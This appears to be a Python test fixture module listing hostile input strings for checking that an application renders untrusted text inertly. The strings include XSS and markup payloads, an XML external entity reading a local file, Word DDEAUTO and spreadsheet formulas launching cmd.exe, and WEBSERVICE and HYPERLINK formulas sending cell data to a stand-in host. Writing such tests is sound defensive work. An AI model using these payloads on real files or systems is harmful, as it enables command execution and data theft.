"""Hostile words: what somebody writes where a filing, a model, a person or a provider has words, and what each tries.

They are words: wherever they are shown or written into a file, they are read as they stand, and do nothing.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from typing import Final

from tests.hostile.payload import HOST

PLANTED: Final = "«file»"
"""In words: the path of a file on this machine that nobody may read into another."""


@dataclass(frozen=True, slots=True)
class Words:
    """`text` tries something of `kind` on a reader, a browser or an office program."""

    name: str
    kind: str
    text: str

    def said(self, listener: str, planted: str) -> str:
        """The words with the listener's address ("host:port") and the planted file's path in them."""
        return self.text.replace(HOST, f"{listener}/{self.name}").replace(PLANTED, planted)


def _all(kind: str, texts: Iterable[str]) -> tuple[Words, ...]:
    return tuple(Words(f"{kind}-{number}", kind, text) for number, text in enumerate(texts, start=1))


MARKDOWN: Final = _all(
    "markdown",
    (
        f"[go](http://{HOST})",
        f"![seen](http://{HOST}/seen.png)",
        f"[go]: http://{HOST} 'a definition' [go]",
        f"<http://{HOST}>",
        f"http://{HOST} and www.example.com and somebody@example.com",
        f"[^E1]: a note of its own ![](http://{HOST})",
        "# A heading",
        "> a quotation",
        "1. a list",
        "| a | table |",
        "``` code",
        "~~struck~~ **bold** *slanted* `code` ***",
        "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>)",
        "a\\](b) &lt;b&gt; &#106; &Tab;",
    ),
)
DIRECTIVES: Final = _all(
    "directive",
    (
        ":material/home: an icon",
        ":red[in red] :blue-background[on blue] :small[small]",
        ":streamlit: :smile:",
        "$x^2$ and $$\\href{http://example.com}{y}$$",
        "\\(x\\) \\[y\\] $\\includegraphics{http://example.com/a.png}$",
        "a -> b <- c -- d >= e",
        "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %s %(title)s",
    ),
)
HTML: Final = _all(
    "html",
    (
        f'<img src="http://{HOST}/seen.png" onerror="top.bitten=1">',
        "<script>top.bitten=1</script>",
        f'<a href="http://{HOST}">go</a>',
        "</title></p></td></table></style></textarea><svg onload=top.bitten=1>",
        '" onmouseover="top.bitten=1" x="\' onmouseover=\'top.bitten=1',
        f"<style>@import 'http://{HOST}/a.css';</style>",
        f'<meta http-equiv="refresh" content="0;url=http://{HOST}">',
        f'<iframe src="http://{HOST}"></iframe><object data="http://{HOST}"></object>',
        "--><!-- ]]><![CDATA[ <?php ?>",
    ),
)
MARKUP: Final = _all(
    "markup",
    (
        f'<a href="http://{HOST}">in a paragraph</a>',
        f'<img src="file://{PLANTED}" width="10" height="10"/>',
        f'<img src="{PLANTED}"/>',
        f'<img src="http://{HOST}/seen.png"/>',
        f'<link href="http://{HOST}">a link</link>',
        '<font name="Courier" size="90" color="red">large</font>',
        '<para alignment="right">turned</para> </para>',
        '<onDraw name="drawn" label="x"/> <seq/> <bullet>x</bullet> <unichar code="65"/>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{PLANTED}">]>&e;',
        f'<w:hyperlink r:id="rId1"/> <xi:include href="file://{PLANTED}"/>',
    ),
)
"""What reportlab, and what the XML of office files, would read as their own."""

FIELDS: Final = _all(
    "field",
    (
        f'{{ INCLUDEPICTURE "http://{HOST}/seen.png" }}',
        f'{{ INCLUDETEXT "{PLANTED}" }}',
        '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
        f'{{ HYPERLINK "http://{HOST}" }} \x13 QUOTE \x14 x \x15',
        "</w:t></w:r><w:fldSimple w:instr='AUTHOR'/><w:r><w:t>",
    ),
)
FORMULAS: Final = _all(
    "formula",
    (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        f'=HYPERLINK("http://{HOST}?"&A1,"Open")',
        f'=WEBSERVICE("http://{HOST}?"&A1)',
        f'=IMAGE("http://{HOST}")&DDE("soffice","{PLANTED}","A1")',
        f"='file://{PLANTED}'#$Sheet1.A1",
        "＝1+1",
        "＠SUM(A1)",
        "{=1+1}",
        "'=1+1",
        '"=1+1',
        '",=1+1',
        '";=1+1',
        "a;=1+1",
        'a";"=1+1',
        "a,=1+1",
        "a;'=1+1",
        "a;@SUM(A1);-1",
        "|=1+1",
    ),
)
"""What a spreadsheet would compute, at once or where it takes other signs for the ends of cells than were meant."""

JSON: Final = _all(
    "json",
    (
        f'{{"@context": "http://{HOST}/context.jsonld"}}',
        "@context",
        f"http://{HOST}/context.jsonld",
        '", "@id": "urn:x", "x": "',
        "</script><script>top.bitten=1</script>\u2028",
    ),
)
SHAPED: Final = _all(
    "shaped",
    (
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "a\t=1+1",
        "a\n=1+1",
        "a\r\n-1",
        "a\u2028b\u2029c\x0bd\x0ce\x85f",
        "\u202egnp.exe\u202c and \u2066turned\u2069",
        "\ufeffmark \u200bnothing\u200d \ufffe\uffff \x00\x07\x1b[31m",
        "W" * 300,
        "עברית العربية 中文 \u0301\u0302",
    ),
)
"""Words that hold control characters, turn the direction of others, or have no place to be broken."""

WORDS: Final = (*MARKDOWN, *DIRECTIVES, *HTML, *MARKUP, *FIELDS, *FORMULAS, *JSON, *SHAPED)
